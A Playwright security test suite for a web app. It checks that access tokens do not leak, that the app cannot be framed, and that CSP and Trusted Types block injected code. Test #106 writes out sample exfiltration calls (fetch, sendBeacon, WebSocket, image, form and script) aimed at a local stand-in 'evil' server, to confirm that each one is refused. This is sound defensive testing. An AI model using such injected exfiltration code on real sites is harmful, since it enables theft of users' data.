import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from '@playwright/test';
import { claimButton, controllerField, keyField, summary } from '../../pages/claimPage.ts';
import { CONTROLLERS, FREE_KEYS } from '../../support/seed.ts';
import { go, seesRows, signInPage } from '../support/acting.ts';
import { expect, test as base } from '../support/test.ts';

interface Elsewhere {
  url: string;
  /** Requests received, as `METHOD path`. */
  hits: string[];
}

const FRAMED = ['/', '/sign-in', '/nothing.png', '/assets/gone.js', '/config.json', '/v1/company', '/auth/x'];

const test = base.extend<{ elsewhere: Elsewhere }>({
  /** Server on another origin whose page frames responses of the host. */
  elsewhere: async ({ fault }, provide) => {
    const hits: string[] = [];
    const html = FRAMED.map((path) => `<iframe src="${fault.url}${path}"></iframe>`).join('');
    const server = createServer((request, response) => {
      hits.push(`${request.method} ${request.url}`);
      response.writeHead(200, {
        'Content-Type': 'text/html; charset=utf-8',
        'Access-Control-Allow-Origin': '*',
      });
      response.end(html);
    });
    await new Promise<void>((resolve) => {
      server.listen(0, '127.0.0.1', resolve);
    });
    await provide({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits });
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  },
});

const [KEY = ''] = FREE_KEYS.deSmet;

/** Collects the tokens that a page receives, and the parts of its requests and console that must not contain them. */
function collectLeaks(page: Page) {
  const tokens = new Set<string>();
  const said: [place: string, text: string][] = [];
  page.on('request', async (request) => {
    const { authorization, ...headers } = await request.allHeaders();
    const path = new URL(request.url()).pathname;
    said.push([`${path}: address`, decodeURIComponent(request.url())]);
    said.push([`${path}: body`, request.postData() ?? '']);
    said.push([`${path}: other headers`, JSON.stringify(headers)]);
    if (authorization === undefined) return;
    if (/^\/(?:v1|auth)\//.test(path)) tokens.add(authorization.replace('Bearer ', ''));
    else said.push([`${path}: Authorization`, authorization]);
  });
  page.on('console', (message) => said.push(['console', message.text()]));
  page.on('download', (download) => said.push(['download', download.url()]));
  return { tokens, said };
}

async function storedIn(page: Page, context: BrowserContext): Promise<[place: string, text: string][]> {
  const inPage = await page.evaluate(async () => {
    const fields = [...document.querySelectorAll('input, textarea, select')].map((field) =>
      'value' in field ? field.value : '',
    );
    const cached: string[] = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) cached.push(request.url);
    }
    return {
      document: document.documentElement.outerHTML,
      fields: JSON.stringify(fields),
      title: document.title,
      address: location.href,
      'history.state': JSON.stringify(history.state),
      localStorage: JSON.stringify(Object.entries(localStorage)),
      sessionStorage: JSON.stringify(Object.entries(sessionStorage)),
      caches: cached.join('\n'),
      'window.name': window.name,
      clipboard: sessionStorage.getItem('test.copied') ?? '',
    };
  });
  return [...Object.entries(inPage), ['cookies', JSON.stringify(await context.cookies())]];
}

test('#101 a token occurs only in Authorization and in the session record', async ({
  page,
  login,
  context,
  fault,
}) => {
  await context.addInitScript(() => {
    Object.defineProperty(navigator, 'clipboard', {
      value: { writeText: async (text: string) => sessionStorage.setItem('test.copied', text) },
    });
  });
  const { tokens, said } = collectLeaks(page);
  const places: [place: string, text: string][] = [];
  const look = async () => void places.push(...(await storedIn(page, context)));

  await login('installer', { keep: true });
  await page.goto('/customers');
  await seesRows(page);
  await look();
  await go(page, 'Claim');
  await page.getByLabel('Link it to the controller only').check();
  await keyField(page).fill(KEY);
  await controllerField(page).fill(CONTROLLERS.noLicense.nodeId);
  await expect(summary(page)).toContainText(CONTROLLERS.noLicense.name);
  await claimButton(page).click();
  await expect(page.getByRole('main').getByText('Confirmed by the server at')).toBeVisible();
  fault.expireAccessTokens();
  await page.goto(`/controllers/${CONTROLLERS.oneLicense.nodeId}`);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(CONTROLLERS.oneLicense.name);
  await look();
  // A service that repeats the request's token in its message.
  const message = `Failed to verify token ${[...tokens].join(' ')}`;
  fault.on('GET /v1/company', { kind: 'status', status: 400, body: { statusCode: 400, message } });
  await page.goto('/customers');
  await page.getByRole('button', { name: 'Copy details for a ticket' }).click();
  await expect(page.getByText('Copied').first()).toBeVisible();
  await look();
  await page.getByRole('button', { name: /installer@example.com/ }).click();
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByRole('heading', { name: 'You are signed out' })).toBeVisible();
  await look();

  expect(tokens.size).toBeGreaterThan(2);
  const leaks = [...places, ...said].filter(([, text]) => [...tokens].some((token) => text.includes(token)));
  expect(leaks.map(([place]) => place)).toEqual([]);
  expect(said.filter(([, text]) => /"referer":"[^"]/.test(text))).toEqual([]);
});

/** URL of the error page in place of a page that the browser refuses to frame. */
const REFUSED_FRAME = {
  chromium: 'chrome-error://chromewebdata/',
  firefox: 'about:neterror',
  webkit: 'about:blank',
};
/** What the browsers say about what the policy blocks. */
const BLOCKED = [
  /CSP violation|Content Security Policy|TrustedHTML|TrustedScript/i,
  /page’s settings blocked/,
];

test('#104 the app cannot be framed, whatever the requested path', async ({
  page,
  browserName,
  fault,
  watched,
  elsewhere,
}) => {
  watched.expected.console.push(/frame-ancestors|X-Frame-Options/);
  await page.goto(elsewhere.url);
  for (const path of FRAMED) {
    await expect.poll(() => fault.calls(`GET ${path}`).length, { message: path }).toBeGreaterThan(0);
  }
  await expect
    .poll(() =>
      page
        .frames()
        .slice(1)
        .map((frame) => frame.url().replace(/\?.*/, '')),
    )
    .toEqual(FRAMED.map(() => REFUSED_FRAME[browserName]));
});

/** Returns an array that collects the violated CSP directives from now on. */
function violationsOf(page: Page): string[] {
  const violated: string[] = [];
  page.on('console', (message) => {
    const [, directive] = /^CSP violation: (\S+)/.exec(message.text()) ?? [];
    if (directive) violated.push(directive);
  });
  return violated;
}

test('#106 an injected script cannot send data anywhere', async ({ page, login, watched, elsewhere }) => {
  watched.expected.console.push(...BLOCKED, /can’t establish a connection/);
  const violated = violationsOf(page);
  await login();
  await page.goto('/customers');
  await seesRows(page);
  const outcomes = await page.evaluate(async (evil) => {
    const attempt = async (act: () => unknown): Promise<string> => {
      try {
        const result = await act();
        return String(result);
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const append = <K extends keyof HTMLElementTagNameMap>(
      name: K,
      values: Partial<HTMLElementTagNameMap[K]>,
    ) => {
      const element = Object.assign(document.createElement(name), values);
      document.body.append(element);
      return element;
    };
    const fetched = await attempt(() => fetch(`${evil}/fetch`, { method: 'POST', body: document.title }));
    const outcomes = [fetched];
    await attempt(() => navigator.sendBeacon(`${evil}/beacon`, 'x'));
    await attempt(() => new WebSocket(evil.replace('http', 'ws')));
    await attempt(() => new EventSource(`${evil}/events`));
    await attempt(() => append('img', { src: `${evil}/img` }));
    await attempt(() => append('form', { action: `${evil}/form`, method: 'post' }).submit());
    await attempt(() => append('iframe', { src: `${evil}/iframe` }));
    await attempt(() => append('link', { rel: 'stylesheet', href: `${evil}/style` }));
    await attempt(() => append('link', { rel: 'prefetch', href: `${evil}/prefetch` }));
    await attempt(() => append('base', { href: evil }));
    outcomes.push(await attempt(() => append('script', { src: `${evil}/script` })));
    return outcomes;
  }, elsewhere.url);
  expect(outcomes).toEqual(['TypeError', 'TypeError']);
  const directives = ['connect-src', 'img-src', 'form-action', 'frame-src', 'style-src-elem', 'base-uri'];
  await expect.poll(() => violated).toEqual(expect.arrayContaining(directives));
  // Control: a request from the test arrives, so the server was reachable.
  await fetch(`${elsewhere.url}/sentinel`);
  expect(elsewhere.hits).toEqual(['GET /sentinel']);
});

test('#107 HTML, code or styles written by a library are blocked and reported', async ({ page, watched }) => {
  watched.expected.console.push(...BLOCKED);
  const violated = violationsOf(page);
  await page.goto('/sign-in');
  await expect(signInPage(page)).toBeVisible();
  const sinks = await page.evaluate(async () => {
    const attempt = (act: () => unknown): string => {
      try {
        act();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const here = document.createElement('div');
    document.body.append(here);
    const setHtml = Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML')?.set;
    return {
      html: attempt(() => setHtml?.call(here, '<b>x</b>')),
      // In a later task, since code run by `evaluate` is itself allowed to evaluate strings.
      code: await new Promise((resolve) => {
        setTimeout(() => resolve(attempt(() => Reflect.construct(Function, ['return 1']))));
      }),
      policy: attempt(() =>
        Reflect.get(window, 'trustedTypes').createPolicy('x', { createHTML: (text: string) => text }),
      ),
      style: attempt(() =>
        here.append(Object.assign(document.createElement('style'), { textContent: 'a{}' })),
      ),
      left: here.querySelectorAll('b').length,
    };
  });
  expect(sinks).toEqual({
    html: 'TypeError',
    code: 'EvalError',
    policy: 'TypeError',
    style: 'done',
    left: 0,
  });
  await expect
    .poll(() => new Set(violated))
    .toEqual(new Set(['require-trusted-types-for', 'trusted-types', 'style-src-elem']));
});
